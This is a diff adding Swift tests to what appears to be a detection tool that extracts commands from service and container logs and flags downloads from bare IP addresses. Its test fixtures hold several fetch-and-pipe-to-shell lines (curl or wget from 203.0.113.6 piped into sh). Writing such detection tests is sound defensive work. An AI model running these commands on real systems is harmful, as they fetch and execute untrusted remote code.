@@ -78,3 +78,41 @@ import Testing
         }
     }
 }
+
+@Suite struct `Orders that a service writes down` {
+    @Test(
+        arguments: [
+            (
+                "Command to launch container container_1_01 : wget -q -O - http://203.0.113.6/c.sh | sh", "Command to launch container ",
+                "wget -q -O - http://203.0.113.6/c.sh | sh"
+            ),
+            (
+                "[INFO] Executing command '(curl -s 203.0.113.6/a.sh)|sh' in directory '/root'", "Executing command '",
+                "(curl -s 203.0.113.6/a.sh)|sh"
+            ),
+            ("Check 'a' script 'curl -s 203.0.113.6/b | sh' output: ", " script '", "curl -s 203.0.113.6/b | sh"),
+            ("Executing command 'x", "Executing command '", nil),
+        ] as [(String, String, String?)])
+    func `are read behind its words`(record: String, words: String, order: String?) {
+        let bytes = Array(record.utf8)
+        let found = ServiceOrder.command(in: bytes.span, behind: words)
+        #expect(found == order.map { RawText($0) })
+    }
+
+    @Test func `fetch from a number with or without a scheme`() {
+        #expect(CommandJudgement.fetchesFromNumber("curl -s 203.0.113.6/a.sh"))
+        #expect(CommandJudgement.fetchesFromNumber("(wget -qO- http://203.0.113.6/a)|sh"))
+        #expect(!CommandJudgement.fetchesFromNumber("curl -s https://get.docker.com/v1.2.3.4/x"))
+        #expect(!CommandJudgement.fetchesFromNumber("tar xf 1.2.3.4/x"))
+    }
+}
+
+@Suite struct `Logs of containers` {
+    @Test func `are told with the name that the engine gave`() {
+        let number = RawText(String(repeating: "4f1c", count: 16))
+        let path = "/var/lib/docker/containers/" + number + "/" + number + "-json.log"
+        #expect(ContainerName.told(path, [number: "shop"]) == path + " (shop)")
+        #expect(ContainerName.told(path, [:]) == path)
+        #expect(ContainerName.told("/var/log/syslog", [number: "shop"]) == "/var/log/syslog")
+    }
+}
